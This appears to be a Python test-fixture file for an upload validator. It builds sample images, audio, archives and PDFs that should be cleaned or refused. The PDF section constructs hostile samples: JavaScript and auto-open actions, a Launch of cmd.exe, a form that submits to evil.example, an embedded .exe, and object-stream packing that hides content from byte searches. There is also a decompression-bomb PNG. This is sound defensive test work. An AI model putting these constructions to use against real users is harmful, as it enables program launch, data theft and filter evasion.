"""Files made for the tests: what people send, and what they should not have."""

import io
import itertools
import struct
import zipfile
import zlib

import pypdf
import pytest
from PIL import Image, PngImagePlugin
from pypdf.actions import JavaScript
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

from incident_app.integrations.files import Unsafe, recognised

ORIENTATION, GPS, MAKER = 0x0112, 0x8825, 0x010F
SECRET = b"CANARY"
XMP = b"<x:xmpmeta xmlns:x='adobe:ns:meta/'>CANARY 44.88 -93.35</x:xmpmeta>"


def refused(content, name="photo.jpg"):
    with pytest.raises(Unsafe) as unsafe:
        recognised(content, name)
    return str(unsafe.value)


def picture(form="JPEG", size=(48, 32), mode="RGB", **options):
    """Left half red, right half blue, so that one sees how it is turned."""
    image = Image.new("RGB", size, "blue")
    image.paste("red", (0, 0, size[0] // 2, size[1]))
    return written(image.convert(mode), form, **options)


def written(image, form, **options):
    out = io.BytesIO()
    image.save(out, form, **options)
    return out.getvalue()


def exif(orientation=1):
    found = Image.Exif()
    found[ORIENTATION], found[MAKER] = orientation, "CANARY phone"
    found.get_ifd(GPS).update({1: "N", 2: (44.0, 53.0, 24.0), 3: "W", 4: (93.0, 21.0, 0.0)})
    return found


def photo(orientation=1):
    """As a phone takes it: where, by whom, and a comment."""
    return picture(exif=exif(orientation), comment=SECRET, xmp=XMP, icc_profile=b"CANARY" * 30)


def png_with_text():
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", "CANARY")
    info.add_itxt("XML:com.adobe.xmp", XMP.decode(), zip=True)
    return picture("PNG", pnginfo=info, exif=exif())


def png_of(width, height):
    """A PNG of a few bytes that says it is this large."""

    def chunk(name, body):
        return (
            struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))
        )

    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    rows = zlib.compress(b"\0" * 10_000)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")
    )


def animated(form):
    frames = [Image.new("RGB", (8, 8), color) for color in ("red", "green", "blue")]
    return written(frames[0], form, save_all=True, append_images=frames[1:], duration=100)


def pdf(change=None, **encrypt):
    """One empty page, and what the change adds."""
    writer = pypdf.PdfWriter()
    writer.add_blank_page(200, 200)
    if change:
        change(writer)
    if encrypt:
        writer.encrypt(**encrypt)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def dictionary(**entries):
    """A PDF dictionary; plain text becomes a name."""
    made = {"str": NameObject, "int": NumberObject}
    return DictionaryObject(
        {
            NameObject(f"/{key}"): made[type(value).__name__](value)
            if type(value).__name__ in made
            else value
            for key, value in entries.items()
        }
    )


def opening(**action):
    """Change a PDF so that it does this when it is opened."""
    return lambda writer: writer.root_object.update(
        {NameObject("/OpenAction"): dictionary(**action)}
    )


def linked(**action):
    """Change a PDF so that a click on its page does this; the action stands on its own."""

    def change(writer):
        where = writer._add_object(dictionary(**action))
        link = dictionary(
            Type="/Annot",
            Subtype="/Link",
            A=where,
            Rect=ArrayObject([NumberObject(n) for n in (0, 0, 9, 9)]),
        )
        writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(link)])

    return change


def text(words):
    return TextStringObject(words)


ACTIVE = {
    "JavaScript": [
        lambda writer: writer.add_open_action(JavaScript("app.alert(1)")),
        linked(S="/JavaScript", JS=text("x")),
    ],
    "start a program": [opening(S="/Launch", F=text("cmd.exe")), linked(S="/Launch", F=text("x")), linked(S="/GoToR", F=text("x"))],
    "send what is typed": [linked(S="/SubmitForm", F=text("https://evil.example"))],
    "another file inside": [
        lambda writer: writer.add_attachment("secret.exe", b"MZ"),
        linked(S="/GoToE"),
    ],
    "video, sound or 3D": [
        linked(S="/Rendition"),
        lambda writer: writer.pages[0].update(
            {NameObject("/Annots"): ArrayObject([dictionary(Type="/Annot", Subtype="/Screen")])}
        ),
    ],
    "XFA": [lambda writer: writer.root_object.update({NameObject("/AcroForm"): dictionary(XFA=text("x"))})],
    "by itself when it is opened": [
        opening(S="/URI", URI=text("https://evil.example")),
        lambda writer: writer.pages[0].update(
            {NameObject("/AA"): dictionary(O=dictionary(S="/URI", URI=text("https://evil.example")))}
        ),
    ],
}  # fmt: skip
"""What is said of a PDF, and what makes it so."""


def objects_packed(content):
    """The same PDF with its objects in a compressed stream, where no search for bytes finds them."""
    reader = pypdf.PdfReader(io.BytesIO(content))
    bodies = {}
    for number in sorted(n for n in reader.xref[0] if n):
        out = io.BytesIO()
        reader.get_object(number).write_to_stream(out)
        bodies[number] = out.getvalue()
    return pdf_of([bodies], root=reader.trailer.raw_get("/Root").idnum)


def pdf_of(streams, root=1):
    """A PDF of compressed streams of objects, each given as what is under which number."""
    places, out = {}, b"%PDF-1.7\n"
    table = max(n for bodies in streams for n in bodies) + len(streams) + 1
    for number, bodies in enumerate(streams, start=table - len(streams)):
        starts = itertools.accumulate((len(each) + 1 for each in bodies.values()), initial=0)
        head = " ".join(f"{n} {at}" for n, at in zip(bodies, starts, strict=False)).encode() + b"\n"
        packed = zlib.compress(head + b"\n".join(bodies.values()), 9)
        places |= {n: (2, number, index) for index, n in enumerate(bodies)}
        places[number] = (1, len(out), 0)
        out += (
            f"{number} 0 obj\n<</Type/ObjStm/N {len(bodies)}/First {len(head)}/Filter/FlateDecode"
            f"/Length {len(packed)}>>stream\n".encode()
            + packed
            + b"\nendstream endobj\n"
        )
    places[table] = (1, len(out), 0)
    rows = b"".join(struct.pack(">BIH", *places.get(n, (0, 0, 0))) for n in range(table + 1))
    return out + (
        f"{table} 0 obj\n<</Type/XRef/Size {table + 1}/W[1 4 2]/Root {root} 0 R"
        f"/Length {len(rows)}>>stream\n".encode() + rows + b"\nendstream endobj\n"
        + f"startxref\n{len(out)}\n%%EOF\n".encode()
    )  # fmt: skip


def archive(*names):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        for name in names or ("a.txt",):
            made.writestr(name, "x")
    return out.getvalue()


def wav(seconds=1):
    sound = b"\x80" * 8000 * seconds
    form = struct.pack("<HHIIHH", 1, 1, 8000, 8000, 1, 8)
    body = b"WAVEfmt " + struct.pack("<I", 16) + form
    body += (
        b"LIST" + struct.pack("<I", 6) + SECRET + b"data" + struct.pack("<I", len(sound)) + sound
    )
    return b"RIFF" + struct.pack("<I", len(body)) + body


def mp3(*, tag=True):
    frame = b"\xff\xfb\x90\x00" + b"\0" * 413
    title = b"ID3\x03\x00\x00\x00\x00\x00\x10" + SECRET + b"\0" * 10
    return (title if tag else b"") + frame * 5 + (b"TAG" + SECRET.ljust(125, b"\0") if tag else b"")


def aac():
    return (b"\xff\xf1\x50\x80\x02\x7f\xfc" + b"\0" * 12) * 5


def amr(start=b"#!AMR\n"):
    return (
        start + (b"\x3c" + b"\1" * 31) * 5
        if start == b"#!AMR\n"
        else start + (b"\x44" + b"\1" * 60) * 5
    )


def ogg(codec=b"OpusHead"):
    def page(flags, body):
        return b"OggS\0" + bytes([flags]) + b"\0" * 20 + bytes([1, len(body)]) + body

    return page(2, codec + b"\1" * 11) + page(0, b"OpusTags") + page(4, b"\1" * 99)


def box(name, *inside):
    body = b"".join(inside)
    return struct.pack(">I", len(body) + 8) + name + body


def boxes(*handlers, brand=b"M4A "):
    """A recording as phones write it, with the place where it was made."""
    tracks = [
        box(b"trak", box(b"mdia", box(b"hdlr", b"\0" * 8 + each + b"\0" * 13))) for each in handlers
    ]
    place = box(b"udta", box(b"\xa9xyz", SECRET + b"+44.88-093.35/"))
    return (
        box(b"ftyp", brand + b"\0\0\0\0" + brand) + box(b"free", SECRET)
        + box(b"moov", box(b"mvhd", b"\0" * 100), *tracks, place) + box(b"mdat", b"\1" * 200)
    )  # fmt: skip
